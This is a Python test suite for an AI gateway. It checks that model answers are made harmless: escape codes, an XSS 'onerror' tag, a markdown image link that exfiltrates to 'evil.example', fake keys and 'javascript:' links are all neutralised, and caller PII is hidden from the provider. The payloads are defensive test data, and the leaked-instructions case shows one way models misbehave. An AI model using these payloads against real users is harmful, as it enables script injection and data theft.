"""What a model says is made harmless on its way out, and what callers hold dear is hidden on its way in."""

import json

import pytest

from tests.providers_e2e.conftest import Serve
from tests.support.model_server import ModelServer
from tests.support.service import OTHER_API_KEY, Service
from tests.support.traffic import ROOT, body, events, metric, new_text, post, said, streamed

HARMFUL = "Late.\x1b[2J <im\u202ag src=x onerror=alert(1)> ![x](https://evil.example/?q=tea) AKIAQ3ZT7MNB2XKWPLDV"
HARMLESS = "Late.\u241b[2J &lt;img src=x onerror=alert(1)> ![x](hxxps://evil.example/?q=tea) (secret)"
MAIL, PHONE = "canary-mail@example.org", "+44 20 7946 0958"


@pytest.mark.parametrize("chunks", [0, 1, 5, 60])
def test_a_harmful_answer_is_made_harmless_in_a_stream_and_in_what_is_kept(
    service: Service, model: ModelServer, chunks: int
) -> None:
    model.behave(text=HARMFUL, chunks=chunks)
    request = body("qa")
    stream = streamed(service, request)
    assert (said(stream), stream[-1].data["result"]) == (HARMLESS, HARMLESS)
    kept = post(service, request).json()
    assert (kept["source"], kept["result"]) == ("cache", HARMLESS)


def test_a_harmful_answer_is_made_harmless_as_a_whole_and_inside_a_type(service: Service, model: ModelServer) -> None:
    model.behave(text=HARMFUL)
    assert post(service, body("qa")).json()["result"] == HARMLESS
    model.behave(text=json.dumps([HARMFUL] * 5))
    assert set(post(service, body("key_points")).json()["result"]) == {HARMLESS}


def inspected(service: Service) -> dict[tuple[str, str], float]:
    """How often inspection has found what, by verdict and kind."""
    found = (("mended", kind) for kind in ("address", "script", "markup", "control", "invisible", "secret"))
    whole = (*found, ("refused", "secret"), ("refused", "instructions"))
    return {
        (verdict, kind): metric(service, "inspected_answers_total", verdict=verdict, kind=kind)
        for verdict, kind in whole
    }


def news(before: dict[tuple[str, str], float], after: dict[tuple[str, str], float]) -> dict[tuple[str, str], float]:
    return {found: after[found] - before[found] for found in after if after[found] != before[found]}


@pytest.mark.parametrize("path", ["process", "stream"])
def test_an_operator_sees_once_what_an_answer_held_and_not_the_answer(
    service: Service, model: ModelServer, path: str
) -> None:
    model.behave(text=HARMFUL)
    before, log = inspected(service), service.output()
    post(service, body("qa"), path)
    kinds = {"address", "markup", "control", "invisible", "secret"}
    assert news(before, inspected(service)) == {("mended", kind): 1 for kind in kinds}
    logged = service.output().removeprefix(log)
    assert logged.count("inspected: mended for address in ") == 1
    assert "evil.example" not in logged


@pytest.mark.parametrize("path", ["process", "stream"])
def test_an_operator_sees_what_was_refused(service: Service, model: ModelServer, path: str) -> None:
    attempts = 2 if path == "process" else 1
    for kind, behaviour in (
        ("secret", {"text": "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n"}),
        ("instructions", {"leak": True}),
    ):
        model.behave(**behaviour)
        before = inspected(service)
        post(service, body("qa"), path)
        assert news(before, inspected(service)) == {("refused", kind): attempts}


@pytest.mark.parametrize("path", ["process", "stream"])
def test_an_ordinary_answer_is_no_finding(service: Service, model: ModelServer, path: str) -> None:
    before = inspected(service)
    assert post(service, body("qa"), path).status_code == 200
    assert inspected(service) == before


@pytest.mark.parametrize("path", ["process", "stream"])
def test_an_offline_answer_that_stands_in_is_made_harmless_too(service: Service, model: ModelServer, path: str) -> None:
    model.behave(fail={"status": 503, "retry_after": 0})
    text = f"{new_text()} The [menu](javascript:order(1)) \x1b[2J was long."
    before = inspected(service)
    answer = post(service, body("summarize", text), path).text
    assert '"source":"offline"' in answer
    assert "[menu](unsafe:javascript:order(1)) \u241b[2J was long." in answer
    assert news(before, inspected(service)) == {("mended", "script"): 1, ("mended", "control"): 1}


@pytest.mark.parametrize("path", ["process", "stream"])
def test_a_private_key_is_no_answer(service: Service, model: ModelServer, path: str) -> None:
    model.behave(text="-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n")
    response = post(service, body("qa"), path)
    assert "provider_bad_answer" in response.text
    assert "MIIEvQ" not in response.text


def test_answers_link_to_listed_hosts_and_to_those_of_the_text(serve: Serve, model: ModelServer) -> None:
    service = serve(AI_LINK_HOSTS="docs.example, *.wide.example")
    text = f"{new_text()} See https://tea.example/menu."
    model.behave(text="https://docs.example/a https://b.wide.example https://tea.example/menu https://wide.example/")
    result = post(service, body("qa", text)).json()["result"]
    assert result == "https://docs.example/a https://b.wide.example https://tea.example/menu hxxps://wide.example/"


@pytest.mark.parametrize("chunks", [0, 1, 30])
def test_the_provider_reads_placeholders_and_the_caller_reads_values(
    serve: Serve, model: ModelServer, chunks: int
) -> None:
    service = serve(PII_REDACTION="on")
    text = f"{new_text()} Write to {MAIL} or call {PHONE}."
    model.behave(text="Call <PHONE_1> or write to <EMAIL_1>, not <EMAIL_2>.", chunks=chunks)
    expected = f"Call {PHONE} or write to {MAIL}, not <EMAIL_2>."
    stream = streamed(service, body("qa", text))
    assert (said(stream), stream[-1].data["result"]) == (expected, expected)
    assert post(service, body("qa", text)).json()["result"] == expected
    calls = json.dumps(model.calls())
    assert len(model.calls()) == 1
    assert "<EMAIL_1>" in calls
    assert MAIL not in calls + service.output()
    assert "7946" not in calls


def test_a_restored_answer_is_for_its_caller_alone(serve: Serve, model: ModelServer) -> None:
    service = serve(PII_REDACTION="on")
    request = body("qa", f"{new_text()} Write to {MAIL}.")
    model.behave(text="Write to <EMAIL_1>.")
    assert post(service, request).json()["source"] == "model"
    with service.connect(OTHER_API_KEY) as other:
        reply = other.post(f"{ROOT}/process", json=request).json()
    assert (reply["source"], reply["result"]) == ("model", f"Write to {MAIL}.")
    assert post(service, request).json()["source"] == "cache"


def test_a_batch_and_a_stream_of_a_type_are_restored_too(serve: Serve, model: ModelServer) -> None:
    service = serve(PII_REDACTION="on")
    text = f"{new_text()} Write to {MAIL}."
    model.behave(text=json.dumps(["<EMAIL_1>"] * 5))
    batch = post(service, {"requests": [body("key_points", text)]}, "batch_process").json()
    assert set(batch["results"][0]["response"]["result"]) == {MAIL}
    stream = list(events(post(service, body("key_points", text), "stream").text.split("\n")))
    assert set(stream[-1].data["result"]) == {MAIL}
